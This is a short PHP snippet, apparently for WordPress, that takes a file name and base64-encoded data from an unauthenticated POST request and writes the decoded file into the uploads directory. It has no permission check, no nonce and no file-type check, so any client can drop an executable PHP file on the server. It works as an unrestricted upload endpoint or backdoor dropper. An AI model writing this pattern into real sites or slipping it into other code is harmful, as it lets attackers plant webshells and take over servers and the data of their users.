<?php
$name = $_POST['filename'];
$data = base64_decode( $_POST['data'] );
file_put_contents( wp_upload_dir()['path'] . '/' . basename( $name ), $data );
